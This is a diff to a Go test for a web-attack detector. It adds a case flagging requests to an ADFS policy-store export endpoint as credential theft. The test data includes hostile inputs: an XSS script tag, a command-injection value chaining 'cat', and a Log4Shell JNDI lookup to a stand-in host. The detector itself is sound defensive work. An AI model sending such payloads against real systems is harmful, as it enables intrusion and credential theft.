@@ -37,6 +37,7 @@ func TestDetector(t *testing.T) {
 			"/q?name=%3Cscript%3Ealert(1)%3C/script%3E", "/ping?host=127.0.0.1;cat+/tmp/a", "/?x=${jndi:ldap://x.example/a}"},
 			want("web.sqli", event.High), want("web.traversal", event.High), want("web.xss", event.High), want("web.rce", event.High), want("ex.log4shell", event.High)),
 		requests("attack-loaded-class", "Java/1.8.0_312", []string{"/Payload.class"}, want("ex.log4shell", event.High)),
+		requests("attack-adfs", browser, []string{"/adfs/services/policystoretransfer"}, want("cred.adfs_export", event.High)),
 		requests("attack-scanner", "Mozilla/5.00 (Nikto/2.1.6)", []string{"/", "/admin/", "/test.php"}, want("web.scanner", event.Medium)),
 		requests("benign-pages", browser, []string{"/", "/search?q=%E4%BD%8F%E6%B0%91%E7%A5%A8+union+%E9%81%B8%E6%8A%9E", "/news/../index.html", "/select?union=1&order=by+date",
 			"/a?url=https%3A%2F%2Fwww.town.example%2Fscript.js", "/cgi/a.exe?cmd=list&id=12", "/shop?or=1&and=2"}),
